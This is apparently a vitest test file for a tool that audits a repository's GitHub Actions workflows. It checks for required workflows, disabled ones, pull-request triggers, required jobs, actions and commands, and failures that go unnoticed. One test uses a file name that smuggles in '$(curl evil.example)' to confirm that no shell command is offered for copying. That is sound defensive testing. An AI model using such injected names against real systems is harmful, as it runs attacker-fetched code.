import { describe, expect, it } from 'vitest'
import { known, unknown } from '../../model/known.ts'
import type { ProcessFacts, WorkflowFacts } from '../../model/process-facts.ts'
import { findingsIn, HIDDEN, judge, statuses, told, withFiles } from './files/examples.ts'
import { workflows } from './workflows.ts'

const CI = `name: Checks
on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - run: npm test
`
const ci = (text: string) => withFiles({ '.github/workflows/ci.yml': text })
const states = (state: WorkflowFacts['state'] = 'active', more: Partial<WorkflowFacts> = {}) =>
  known([{ name: 'Checks', path: '.github/workflows/ci.yml', state, ...more }])

const REQUIRED = '[process.ci]\nrequired_workflows = ["ci"]\n'
const ask = (toml: string, text: string, facts: Partial<ProcessFacts> = {}, tier?: string) =>
  judge(workflows, toml, { files: ci(text), workflows: states(), ...facts }, tier)

describe('process/workflows', () => {
  it.each(['ci', 'ci.yml', '.github/workflows/ci.yml', 'Checks'])(
    'finds a workflow that is called %s',
    async (name) => {
      const results = await ask(`[process.ci]\nrequire_workflows = ["${name}"]`, CI)
      expect(statuses(results)).toEqual(['pass acme/app'])
    },
  )

  it('fails where it is not there', async () => {
    const results = await ask('[process.ci]\nrequired_workflows = ["ci", "security.yml"]', CI)
    expect(told(results)).toEqual(['high Workflow security.yml is not there'])
    expect(findingsIn(results)[0]?.fix).toContain('.github/workflows/security.yml')
  })

  it('fails where GitHub was told not to run it, and leads to its page', async () => {
    const results = await ask(REQUIRED, CI, { workflows: states('disabled_manually') })
    expect(told(results)).toEqual(['high Workflow ci is disabled'])
    expect(findingsIn(results)[0]).toMatchObject({
      subject: 'ci disabled',
      expected: 'active',
      actual: 'disabled_manually',
      setAt: {
        name: 'the Actions of acme/app',
        url: 'https://github.com/acme/app/actions/workflows/ci.yml',
      },
    })
  })

  it('gives no command to copy for a file whose name a shell would run', async () => {
    const path = '.github/workflows/$(curl evil.example).yml'
    const results = await judge(workflows, '[process.ci]\nrequired_workflows = ["Checks"]', {
      files: withFiles({ [path]: CI }),
      workflows: states('disabled_manually', { path }),
    })
    expect(findingsIn(results)[0]?.fix).toBe('Enable it on its page under Actions.')
  })

  it('does not know whether it is disabled without Actions: read, and judges the rest', async () => {
    const results = await ask('[process.ci]\nrequired_workflows = ["ci", "gone"]', CI, {
      workflows: unknown('the token may not read it', 'Actions: read'),
    })
    expect(statuses(results)).toEqual(['fail acme/app', 'unknown ci disabled'])
    expect(results[1]?.permissions).toEqual(['Actions: read'])
  })

  it('fails where it never runs before a merge', async () => {
    const results = await ask(REQUIRED, CI.replace('pull_request', '{push: {branches: [main]}}'))
    expect(told(results)).toEqual(['medium Workflow ci does not run on pull requests'])
    expect(findingsIn(results)[0]).toMatchObject({
      rule: 'process/workflow-trigger',
      line: 2,
      expected: 'a run on pull requests into main before they are merged',
      actual: ['push only for main, not for the branch of a pull request'],
    })
  })

  it('names filters by path without calling them a difference', async () => {
    const results = await ask(REQUIRED, CI.replace('pull_request', '{push: {paths: [src/**]}}'))
    expect(results[0]).toMatchObject({
      status: 'pass',
      data: { narrowed: ['ci: push only for changes in src/**'] },
    })
  })

  it('asks for jobs by id, which must not be switched off', async () => {
    const toml = '[process.ci.jobs]\nci = ["test", "lint", "Types"]\n'
    const more = '  lint: {if: false, runs-on: x}\n  types: {name: Types, runs-on: x}\n'
    const results = await ask(toml, CI + more)
    expect(told(results)).toEqual([
      'medium Job lint of workflow ci is switched off',
      'medium Workflow ci has no job Types',
    ])
    expect(findingsIn(results)[0]).toMatchObject({ line: 10, subject: 'ci jobs.lint' })
    expect(findingsIn(results)[1]?.fix).toContain('write types instead of its name')
  })

  it('asks for actions, with any ref or the one that is given', async () => {
    const toml = `[process.ci.actions]
ci = ["Actions/Checkout", "actions/checkout@v4", "actions/checkout@v5", "acme/scan"]
`
    const results = await ask(toml, CI)
    expect(told(results)).toEqual([
      'medium Workflow ci does not use actions/checkout@v5',
      'medium Workflow ci does not use acme/scan',
    ])
    expect(findingsIn(results)[0]).toMatchObject({ actual: 'actions/checkout@v4', line: 7 })
  })

  it('asks for commands in the workflow, or in a job of it', async () => {
    const toml = `[process.ci.commands]
ci = ["npm test", "npm run lint"]
[process.ci.commands.Checks]
test = ["npm ci", "npm audit"]
gone = ["x"]
`
    expect(told(await ask(toml, CI))).toEqual([
      'medium Workflow ci does not run npm run lint',
      'medium Workflow Checks does not run npm audit',
      'medium Workflow Checks has no job gone',
    ])
  })

  it.each([
    ['run: npm test', 'run: npm test || true', 'its failure is ignored'],
    ['run: npm test', 'run: npm test\n        continue-on-error: true', 'continue-on-error'],
    ['  test:\n', '  test:\n    continue-on-error: true\n', 'continue-on-error'],
  ])('does not take a command for enforced that may fail: %j → %j', async (from, to, actual) => {
    const toml = '[process.ci.commands]\nci = ["npm test"]'
    const results = await ask(toml, CI.replace(from, to))
    expect(told(results)).toEqual(['medium npm test may fail unnoticed in workflow ci'])
    expect(findingsIn(results)[0]).toMatchObject({ actual })
  })

  it('counts neither comments nor steps that are switched off', async () => {
    const toml = '[process.ci.commands]\nci = ["npm test"]'
    const off = await ask(
      toml,
      CI.replace('run: npm test', 'if: ${{ false }}\n        run: npm test'),
    )
    expect(told(off)).toEqual(['medium Workflow ci runs npm test only where it is switched off'])
    const comment = await ask(toml, CI.replace('run: npm test', 'run: "# npm test"'))
    expect(told(comment)).toEqual(['medium Workflow ci does not run npm test'])
  })

  it('looks into workflows of the repository that are called, and says where it could not', async () => {
    const toml = '[process.ci.commands]\nci = ["npm test"]'
    const caller = (uses: string) => `on: pull_request\njobs:\n  call:\n    uses: ${uses}\n`
    const files = withFiles({
      '.github/workflows/ci.yml': caller('./.github/workflows/test.yml'),
      '.github/workflows/test.yml': CI.replace('pull_request', 'workflow_call'),
    })
    expect(statuses(await ask(toml, '', { files }))).toEqual(['pass acme/app'])
    const results = await ask(toml, caller('acme/shared/.github/workflows/ci.yml@v1'))
    expect(results.at(-1)).toMatchObject({
      status: 'unknown',
      subject: 'ci commands.npm test',
      message: expect.stringContaining('acme/shared/.github/workflows/ci.yml@v1'),
    })
  })

  it('does not judge a workflow that is broken, and says where', async () => {
    const [result, ...rest] = await ask(REQUIRED, 'on: push\njobs: [\n')
    expect(rest).toEqual([])
    expect(result).toMatchObject({
      status: 'unknown',
      file: '.github/workflows/ci.yml',
      message: expect.stringMatching(/ci\.yml is broken at line \d+/),
    })
    const named = await ask('[process.ci]\nrequired_workflows = ["Checks"]', 'jobs: [')
    expect(statuses(named)).toEqual(['unknown Checks'])
  })

  it('does not close what a broken workflow may still hold', async () => {
    const toml = '[process.ci.jobs]\nci = ["lint"]'
    const before = findingsIn(await ask(toml, CI))
    const open = before.map((finding) => ({ ...finding, check: 'process/workflows' }))
    expect(statuses(await ask(toml, 'jobs: [', { open }))).toEqual([
      'unknown ci',
      'unknown ci jobs.lint',
    ])
  })

  it('takes what GitHub runs by itself, without a file, for there', async () => {
    const results = await ask('[process.ci]\nrequired_workflows = ["CodeQL"]', CI, {
      workflows: states('active', { name: 'CodeQL', path: 'dynamic/github-code-scanning/codeql' }),
    })
    expect(statuses(results)).toEqual(['pass acme/app'])
  })

  it('is unknown where files were not seen, and skipped where nothing is asked', async () => {
    const [hidden] = await ask(REQUIRED, CI, { files: HIDDEN })
    expect(hidden).toMatchObject({ status: 'unknown', permissions: ['Contents: read'] })
    expect(statuses(await ask('', CI))).toEqual(['skipped acme/app'])
    expect(statuses(await ask(`${REQUIRED}enabled = false`, CI))).toEqual(['skipped acme/app'])
  })

  it('is milder in a prototype, and not misled by names from prototypes', async () => {
    expect(
      told(await ask('[process.ci]\nrequired_workflows = ["x"]', CI, {}, 'prototype')),
    ).toEqual(['medium Workflow x is not there'])
    const toml = '[process.ci.jobs]\n__proto__ = ["constructor"]\nci = ["constructor"]\n'
    expect(told(await ask(toml, CI))).toEqual([
      'high Workflow __proto__ is not there',
      'medium Workflow ci has no job constructor',
    ])
  })
})
